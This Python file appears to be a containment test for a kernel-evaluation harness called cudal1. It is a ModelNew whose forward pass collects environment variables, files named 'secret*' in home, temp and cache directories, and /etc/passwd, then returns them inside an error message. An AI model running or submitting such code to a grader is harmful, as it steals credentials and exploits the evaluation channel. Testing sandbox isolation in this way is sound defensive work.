# Containment: reads what it can of the host (its environment, files next to the task, the
# cudal1 cache and the user's home, /etc/passwd) and returns it in its error message, which a
# verdict (and serve's HTTP reply) carries back. Without an allowlisted environment and a
# private mount namespace it returned CUDAL1_API_KEY, CUDAL1_SERVE_TOKEN and
# CUDAL1_REDIS_PASSWORD.
import os
import sys

import torch.nn as nn


def gathered():
    found = ["%s=%s" % item for item in sorted(os.environ.items())]
    task = getattr(sys.modules.get("cudal1_task"), "__file__", None) or ""
    roots = [os.path.dirname(task), os.path.expanduser("~"), "/root", "/home", "/tmp",
             os.path.expanduser("~/.cache/cudal1")]
    for root in roots:
        for path, dirs, files in os.walk(root):
            if path.count(os.sep) - root.count(os.sep) >= 3:
                dirs[:] = []
            for name in files:
                if name.startswith("secret"):
                    try:
                        with open(os.path.join(path, name)) as f:
                            found.append(f.read(200))
                    except OSError:
                        pass
    try:
        with open("/etc/passwd") as f:
            found.append(f.read(200))
    except OSError:
        pass
    return " | ".join(found)


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()

    def forward(self, x):
        raise RuntimeError("leaked: " + gathered())
